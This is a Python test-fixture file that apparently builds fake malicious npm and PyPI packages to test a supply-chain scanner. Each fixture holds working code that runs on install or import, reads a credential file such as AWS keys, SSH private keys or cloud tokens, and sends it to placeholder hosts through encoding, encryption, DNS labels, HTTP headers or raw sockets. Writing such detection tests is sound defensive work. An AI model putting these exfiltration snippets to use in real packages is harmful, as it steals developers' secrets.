"""Thieves that differ in how the bait leaves: encodings, and channels other than an HTTP body."""

from __future__ import annotations

from pathlib import Path

from tests.packages import build
from tests.packages.fixture import Built, Expectation, Fixture
from tests.packages.npm_thieves import SENT, TAINT
from tests.packages.settled import javascript, python


def _npm(
    name: str, package: str, why: str, script: str, decoy: str, way_out: str, rules: tuple[str, ...] = SENT
) -> Fixture:
    """A package whose postinstall is `script`."""

    def make(folder: Path) -> Built:
        files = {"setup.js": script, "index.js": "module.exports = {};\n"}
        return Built(target=build.npm(folder, package, files, scripts={"postinstall": "node setup.js"}))

    expect = Expectation(
        rules=rules, decoys=(decoy,), ways_out=(way_out,), package=package, phase="install"
    )
    return Fixture(
        name=name, ecosystem="npm", kind="thief", package=package, build=make, why=why, expect=expect
    )


def _pypi(name: str, package: str, why: str, script: str, decoy: str, way_out: str) -> Fixture:
    """A wheel whose one module is `script`, run when it is imported."""

    def make(folder: Path) -> Built:
        module = package.replace("-", "_")
        return Built(target=build.wheel(folder, package, {f"{module}/__init__.py": script}))

    expect = Expectation(rules=SENT, decoys=(decoy,), ways_out=(way_out,), package=package, phase="import")
    return Fixture(
        name=name, ecosystem="pypi", kind="thief", package=package, build=make, why=why, expect=expect
    )


_BASE64_TWICE = javascript(
    """
    let text = fs.readFileSync(`${os.homedir()}/.aws/credentials`);
    for (let layer = 0; layer < 2; layer += 1) text = Buffer.from(Buffer.from(text).toString("base64"));
    await fetch("https://two.layer-report.test/in", { method: "POST", body: text });
    """
)

_BASE64_THRICE = javascript(
    """
    let text = fs.readFileSync(`${os.homedir()}/.ssh/id_ed25519`);
    for (let layer = 0; layer < 3; layer += 1) text = Buffer.from(Buffer.from(text).toString("base64"));
    const body = JSON.stringify({ kind: "metrics", data: text.toString() });
    await fetch("https://three.layer-report.test/in", { method: "POST", body });
    """
)

_GZIP = javascript(
    """
    const text = fs.readFileSync(`${os.homedir()}/.docker/config.json`);
    await fetch("https://pack.layer-report.test/in", { method: "POST", body: zlib.gzipSync(text) });
    """,
    "zlib",
)

_GZIP_BASE64 = javascript(
    """
    const text = fs.readFileSync(`${os.homedir()}/.kube/config`);
    const body = JSON.stringify({ data: zlib.gzipSync(text).toString("base64") });
    await fetch("https://both.layer-report.test/in", { method: "POST", body });
    """,
    "zlib",
)

_AES = javascript(
    """
    const key = crypto.randomBytes(32);
    const cipher = crypto.createCipheriv("aes-256-gcm", key, crypto.randomBytes(12));
    const text = fs.readFileSync(`${os.homedir()}/.claude/.credentials.json`);
    const body = Buffer.concat([cipher.update(text), cipher.final(), cipher.getAuthTag()]);
    await fetch("https://sealed.layer-report.test/in", { method: "POST", body });
    """,
    "crypto",
)

_DNS_QUERY = javascript(
    """
    const text = fs.readFileSync(`${os.homedir()}/.vault-token`, "utf8").trim();
    const labels = Buffer.from(text).toString("hex").match(/.{1,60}/g);
    const resolver = new dns.promises.Resolver({ timeout: 1000, tries: 1 });
    for (const [place, label] of labels.entries()) {
      await resolver.resolveTxt(`${place}.${label}.ns.label-zone.test`).catch(() => {});
    }
    """,
    "dns",
)

_HEADER = javascript(
    """
    const text = fs.readFileSync(`${os.homedir()}/.git-credentials`, "utf8").trim().split("\\n")[0];
    await fetch("https://cdn.badge-count.test/pixel", { headers: { "x-request-tag": text } });
    """
)

_REVERSED = javascript(
    """
    const text = fs.readFileSync(`${os.homedir()}/.npmrc`, "utf8");
    const body = [...text].reverse().join("");
    await fetch("https://back.layer-report.test/in", { method: "POST", body });
    """
)

_SPLIT = javascript(
    """
    const text = fs.readFileSync(`${os.homedir()}/.aws/credentials`, "utf8");
    for (const part of text.match(/[^]{1,24}/g)) {
      await fetch("https://parts.layer-report.test/in", { method: "POST", body: part });
    }
    """
)

_HEX = python(
    """
    with open(os.path.expanduser("~/.config/gh/hosts.yml"), "rb") as file:
        data = file.read().hex().encode()
    try:
        urllib.request.urlopen("https://hex.label-report.test/in", data=data, timeout=5).read()
    except OSError:
        pass
    """,
    "urllib.request",
)

_DNS_NAMES = python(
    """
    with open(os.path.expanduser("~/.pypirc"), "rb") as file:
        text = file.read().hex()
    for start in range(0, len(text), 60):
        try:
            socket.getaddrinfo(f"{start}.{text[start:start + 60]}.q.name-zone.test", 80)
        except OSError:
            pass
    """,
    "socket",
)

_RAW_TCP = python(
    """
    with open(os.path.expanduser("~/.netrc"), "rb") as file:
        data = file.read()
    try:
        with socket.create_connection(("198.51.100.23", 8080), timeout=5) as connection:
            connection.sendall(data)
    except OSError:
        pass
    """,
    "socket",
)

_RAW_UDP = python(
    """
    with open(os.path.expanduser("~/.pgpass"), "rb") as file:
        data = file.read(1024)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
        out.sendto(data, ("198.51.100.24", 5140))
    """,
    "socket",
)

_QUERY = python(
    """
    with open(os.path.expanduser("~/.config/gcloud/application_default_credentials.json")) as file:
        text = file.read()
    query = urllib.parse.urlencode({"v": "1", "d": text})
    try:
        urllib.request.urlopen(f"https://img.count-view.test/p.gif?{query}", timeout=5).read()
    except OSError:
        pass
    """,
    "urllib.parse urllib.request",
)

THIEVES = [
    _npm(
        "npm-base64-twice", "layer-two", "base64 in base64",
        _BASE64_TWICE, "aws", "two.layer-report.test",
    ),
    _npm(
        "npm-base64-thrice", "layer-three", "three layers of base64, in JSON",
        _BASE64_THRICE, "ssh", "three.layer-report.test",
    ),
    _npm("npm-gzip", "layer-pack", "gzip", _GZIP, "docker", "pack.layer-report.test"),
    _npm(
        "npm-gzip-base64", "layer-both", "gzip, then base64, in JSON",
        _GZIP_BASE64, "kubernetes", "both.layer-report.test",
    ),
    _npm(
        "npm-aes", "layer-sealed", "AES-256-GCM with a random key: only the flow from read to send tells",
        _AES, "claude", "sealed.layer-report.test", TAINT,
    ),
    _npm(
        "npm-dns-query", "label-zone", "hexadecimal labels asked of the resolver by node's own DNS client",
        _DNS_QUERY, "vault", "label-zone.test",
    ),
    _npm("npm-header", "badge-count", "an HTTP header of a GET", _HEADER, "github", "cdn.badge-count.test"),
    _npm("npm-reversed", "layer-back", "the text reversed", _REVERSED, "npm_token", "back.layer-report.test"),
    _npm(
        "npm-split", "layer-parts", "24 characters a request, so that no request holds a whole secret",
        _SPLIT, "aws", "parts.layer-report.test",
    ),
    _pypi("pypi-hex", "label-report", "hexadecimal", _HEX, "github", "hex.label-report.test"),
    _pypi(
        "pypi-dns-names", "name-zone", "hexadecimal labels looked up with getaddrinfo",
        _DNS_NAMES, "pypi_token", "name-zone.test",
    ),
    _pypi("pypi-raw-tcp", "stream-rows", "raw TCP to an address", _RAW_TCP, "netrc", "198.51.100.23"),
    _pypi(
        "pypi-raw-udp", "datagram-log", "one UDP datagram to an address",
        _RAW_UDP, "databases", "198.51.100.24",
    ),
    _pypi("pypi-query", "count-view", "the query of a GET", _QUERY, "gcp", "img.count-view.test"),
]  # fmt: skip
